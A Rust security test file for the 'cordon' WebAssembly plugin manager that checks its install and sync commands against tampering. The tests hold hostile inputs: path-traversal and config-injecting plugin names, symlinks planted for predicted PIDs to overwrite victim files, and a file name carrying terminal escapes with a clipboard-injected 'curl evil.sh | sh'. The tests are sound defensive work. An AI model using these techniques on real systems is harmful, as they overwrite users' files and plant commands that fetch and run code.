//! Attacks on installing plugins from files and from the lock (`cordon add`, `cordon sync`): a
//! tampered cordon.lock or cordon.toml, a local source past the size cap, crafted names, and a
//! local user planting files or symlinks where cordon writes. Each test asserts the safe behaviour.

use crate::support::Workspace;
use crate::support::hostile_http::*;

const MAX: u64 = 256 << 20;

#[test]
fn sync_keeps_a_locked_source_name_inside_the_plugins_dir() {
    let ws = Workspace::new();
    let probe = component("fixture_probe");
    let source = ws.path().join("src").join("probe.wasm");
    std::fs::create_dir_all(source.parent().unwrap()).unwrap();
    std::fs::write(&source, &probe).unwrap();
    let outside = ws.path().join("elsewhere").join("pwned");
    let sha = sha256(&probe);
    write_lock(
        &ws,
        &[
            ("../escaped", source.to_str().unwrap(), sha.as_str()),
            (
                outside.to_str().unwrap(),
                source.to_str().unwrap(),
                sha.as_str(),
            ),
        ],
        &[],
    );
    let out = ws.cordon(&["sync"]);
    assert!(
        !ws.path().join("escaped.wasm").exists(),
        "sync wrote outside plugins/ through a `../` source name (exit {}): {}{}",
        out.code,
        out.stdout,
        out.stderr
    );
    assert!(
        !ws.path().join("elsewhere/pwned.wasm").exists(),
        "sync wrote to an absolute path taken from a source name (exit {}): {}{}",
        out.code,
        out.stdout,
        out.stderr
    );
    assert_ne!(out.code, 0, "a lock with invalid plugin names is refused");
}

#[test]
fn sync_does_not_replace_an_approved_plugin_with_a_source_of_another_digest() {
    let ws = Workspace::new().plugin("fixture_probe", "probe");
    let probe = component("fixture_probe");
    let guard = component("guard");
    let other = ws.path().join("other.wasm");
    std::fs::write(&other, &guard).unwrap();
    // The approval says probe's digest; the tampered source entry says another component's.
    let (guard_sha, probe_sha) = (sha256(&guard), sha256(&probe));
    write_lock(
        &ws,
        &[("probe", other.to_str().unwrap(), guard_sha.as_str())],
        &[("probe", probe_sha.as_str())],
    );
    let out = ws.cordon(&["sync"]);
    assert!(
        std::fs::read(ws.plugin_path("probe")).unwrap() == probe,
        "sync replaced the approved plugin with one the lock never approved (exit {}): {}{}",
        out.code,
        out.stdout,
        out.stderr
    );
    assert_ne!(out.code, 0, "{}", out.stdout);
}

#[test]
fn sync_checks_the_digest_before_replacing_a_file_already_there() {
    let ws = Workspace::new().raw_plugin("probe", b"an older file");
    let probe = component("fixture_probe");
    let served = ws.path().join("served.wasm");
    std::fs::write(&served, component("guard")).unwrap();
    let probe_sha = sha256(&probe);
    write_lock(
        &ws,
        &[("probe", served.to_str().unwrap(), probe_sha.as_str())],
        &[],
    );
    let out = ws.cordon(&["sync"]);
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("the digest does not match"),
        "{}",
        out.stderr
    );
    assert_eq!(
        std::fs::read(ws.plugin_path("probe")).unwrap(),
        b"an older file"
    );
}

#[test]
fn a_local_source_larger_than_the_cap_is_refused_without_reading_it_all() {
    // `std::fs::read` of a file source has no cap: /dev/zero (or a huge file) named in a tampered
    // lock, or given to `cordon add`, is read until memory runs out. A 600 MiB sparse file shows it.
    let ws = Workspace::new();
    let big = ws.path().join("big.wasm");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(600 << 20)
        .unwrap();
    let out = ws.cordon(&["add", "big.wasm", "--sha256", &"0".repeat(64)]);
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains(&MAX.to_string()),
        "a 600 MiB local file was read whole instead of refused at the {MAX}-byte cap: {}",
        out.stderr
    );
}

#[test]
fn sync_prints_no_terminal_escapes_from_the_lock() {
    // sync prints `NAME: installed from SOURCE` with the lock's source text on stdout, without the
    // sanitising errors get. A local path may hold any byte but '/' and NUL.
    let ws = Workspace::new();
    let probe = component("fixture_probe");
    let file = "x\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}[2J.wasm";
    std::fs::write(ws.path().join(file), &probe).unwrap();
    write_lock(&ws, &[("probe", file, &sha256(&probe))], &[]);
    let out = ws.cordon(&["sync"]);
    assert!(
        !out.stdout.contains('\u{1b}') && !out.stdout.contains('\u{7}'),
        "cordon sync wrote the lock's escape sequences to the terminal (exit {}): {:?}",
        out.code,
        out.stdout
    );
}

#[test]
fn sync_does_not_install_an_unapproved_source_under_a_name_the_config_grants() {
    // The add-side fix (a name whose [plugins.NAME] already grants something) has no sync-side
    // twin: a lock that records [sources.probe] (any component) with no approval for it, in a repo
    // whose cordon.toml grants `probe`, gets that component installed under the granted name.
    let ws = Workspace::new().config("[plugins.probe]\nenv = [\"HOME\"]\nhook = true\n");
    let evil = component("guard");
    std::fs::write(ws.path().join("evil.wasm"), &evil).unwrap();
    write_lock(&ws, &[("probe", "evil.wasm", &sha256(&evil))], &[]);
    let out = ws.cordon(&["sync"]);
    assert!(
        !ws.plugin_path("probe").exists(),
        "cordon sync installed an unapproved component under a name cordon.toml grants env and hook to (exit {}): {}{}",
        out.code,
        out.stdout,
        out.stderr
    );
}

#[test]
fn add_does_not_inherit_grants_left_under_the_plugin_name() {
    // cordon.toml (committed) grants the trusted `probe` plugin; plugins/ (not committed) is empty
    // on this checkout. `cordon add` of any component that names itself `probe` must not pick
    // those grants up while saying "granted: nothing".
    let ws = Workspace::new().config("[plugins.probe]\nenv = [\"HOME\"]\nhook = true\n");
    std::fs::write(ws.path().join("probe.wasm"), component("guard")).unwrap();
    let out = ws.cordon(&["add", "probe.wasm"]);
    if out.code != 0 {
        return; // refusing is safe
    }
    let config: toml::Value =
        toml::from_str(&std::fs::read_to_string(ws.path().join("cordon.toml")).unwrap()).unwrap();
    let keys: Vec<String> = config["plugins"]["probe"]
        .as_table()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    assert_eq!(
        keys,
        vec!["sha256".to_string()],
        "the new component inherited the old grants; cordon add printed:\n{}",
        out.stdout
    );
}

#[test]
fn grants_in_dotted_and_inline_forms_are_seen() {
    let probe = component("fixture_probe");
    for config in [
        "plugins.probe.env = [\"HOME\"]\n",
        "[plugins]\nprobe.env = [\"HOME\"]\n",
        "[plugins]\nprobe = { env = [\"HOME\"] }\n",
        "plugins = { probe = { env = [\"HOME\"] } }\n",
        "[plugins.\"probe\"]\nenv = [\"HOME\"]\n",
        "[plugins.'probe']\nenv = [\"HOME\"]\n",
    ] {
        let ws = Workspace::new().config(config);
        std::fs::write(ws.path().join("probe.wasm"), &probe).unwrap();
        let out = ws.cordon(&["add", "probe.wasm"]);
        assert_ne!(
            out.code, 0,
            "add installed under a name granted as {config:?}: {}",
            out.stdout
        );
        assert!(!ws.plugin_path("probe").exists(), "{config:?}");
    }
}

#[test]
fn an_add_that_fails_to_pin_leaves_no_plugin_behind() {
    // `plugins` as an inline table: pin_in_config fails after install_file already wrote
    // plugins/NAME.wasm, so add reports an error but leaves an unpinned, unlocked plugin.
    let ws = Workspace::new().config("plugins = { other = { sha256 = \"00\" } }\n");
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    let out = ws.cordon(&["add", "probe.wasm"]);
    if out.code == 0 {
        return; // pinned in the inline table: fine
    }
    assert!(
        !ws.plugin_path("probe").exists(),
        "add failed ({}) but left plugins/probe.wasm installed",
        out.stderr
    );
}

#[test]
fn the_inspection_scratch_dir_cannot_be_planted_by_another_user() {
    // load_alone writes the component to $TMPDIR/cordon-inspect-PID-NAME/NAME.wasm: a directory
    // another local user can create first (PIDs are predictable) with NAME.wasm a symlink to a
    // file of the user running cordon, which `std::fs::write` then follows and overwrites.
    let ws = Workspace::new();
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    let tmp = ws.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let victim = ws.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let read_number = |path: &str| -> u32 {
        std::fs::read_to_string(path)
            .unwrap()
            .trim()
            .parse()
            .unwrap()
    };
    let last = read_number("/proc/sys/kernel/ns_last_pid");
    let pid_max = read_number("/proc/sys/kernel/pid_max");
    for offset in 1..=3000 {
        let pid = (last + offset) % pid_max;
        if pid < 2 {
            continue;
        }
        let dir = tmp.join(format!("cordon-inspect-{pid}-probe"));
        std::fs::create_dir(&dir).unwrap();
        std::os::unix::fs::symlink(&victim, dir.join("probe.wasm")).unwrap();
    }
    let out = ws.cordon_with_env(&["add", "probe.wasm"], &[("TMPDIR", tmp.to_str().unwrap())]);
    assert!(
        std::fs::read(&victim).unwrap() == b"precious",
        "cordon add followed a planted symlink in its scratch dir and overwrote another file (exit {}): {}",
        out.code,
        out.stderr
    );
}

#[test]
fn a_symlink_in_plugins_is_replaced_not_followed() {
    let ws = Workspace::new();
    let victim = ws.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    std::os::unix::fs::symlink(&victim, ws.plugin_path("probe")).unwrap();
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    let out = ws.cordon(&["add", "probe.wasm"]);
    assert_ne!(out.code, 0, "another file is there: --force needed");
    let out = ws.cordon(&["add", "probe.wasm", "--force"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    assert!(
        !std::fs::symlink_metadata(ws.plugin_path("probe"))
            .unwrap()
            .file_type()
            .is_symlink()
    );

    // sync too.
    let victim2 = ws.path().join("victim2.txt");
    std::fs::write(&victim2, "precious").unwrap();
    std::fs::remove_file(ws.plugin_path("probe")).unwrap();
    std::os::unix::fs::symlink(&victim2, ws.plugin_path("probe")).unwrap();
    let out = ws.cordon(&["sync"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(&victim2).unwrap(), "precious");
}

#[test]
fn install_temp_files_cannot_be_planted_as_symlinks() {
    // install_file writes DIR/.NAME.PID.partial with std::fs::write, which follows a symlink, then
    // renames it over the target. A cloned repository (git stores symlinks) or another user of a
    // shared project directory plants `.probe.wasm.PID.partial` and `.cordon.toml.PID.partial`
    // for the next PIDs; cordon add then overwrites the link targets (cordon.toml's text into,
    // say, ~/.bashrc) and leaves plugins/probe.wasm a symlink.
    let ws = Workspace::new();
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    let victim_plugin = ws.path().join("victim-plugin.txt");
    let victim_config = ws.path().join("victim-config.txt");
    std::fs::write(&victim_plugin, "precious").unwrap();
    std::fs::write(&victim_config, "precious").unwrap();
    let read_number = |path: &str| -> u32 {
        std::fs::read_to_string(path)
            .unwrap()
            .trim()
            .parse()
            .unwrap()
    };
    let last = read_number("/proc/sys/kernel/ns_last_pid");
    let pid_max = read_number("/proc/sys/kernel/pid_max");
    for offset in 1..=3000 {
        let pid = (last + offset) % pid_max;
        if pid < 2 {
            continue;
        }
        std::os::unix::fs::symlink(
            &victim_plugin,
            ws.path()
                .join("plugins")
                .join(format!(".probe.wasm.{pid}.partial")),
        )
        .unwrap();
        std::os::unix::fs::symlink(
            &victim_config,
            ws.path().join(format!(".cordon.toml.{pid}.partial")),
        )
        .unwrap();
    }
    let out = ws.cordon(&["add", "probe.wasm"]);
    let plugin_now = std::fs::read(&victim_plugin).unwrap();
    let config_now = std::fs::read(&victim_config).unwrap();
    assert!(
        plugin_now == b"precious" && config_now == b"precious",
        "cordon add followed planted temp-file symlinks (exit {}): plugin victim {} bytes, config victim {:?}",
        out.code,
        plugin_now.len(),
        String::from_utf8_lossy(&config_now)
    );
}

#[test]
fn crafted_plugin_names_are_refused() {
    let ws = Workspace::new();
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    for name in [
        "../../x",
        "../x",
        "/tmp/x",
        "a/b",
        "A",
        "",
        "x.y",
        "x\"]\nevil = 1\n[plugins.y",
        "x]\n[host]\nlocked = false\n#",
    ] {
        let out = ws.cordon(&["add", "probe.wasm", "--name", name]);
        assert_ne!(out.code, 0, "--name {name:?} was accepted");
    }
    std::fs::write(ws.path().join("9lives.wasm"), component("fixture_probe")).unwrap();
    assert_ne!(ws.cordon(&["add", "9lives.wasm"]).code, 0);
    assert_nothing_written(&ws, "crafted names");
    assert!(!ws.path().parent().unwrap().join("x.wasm").exists());
}
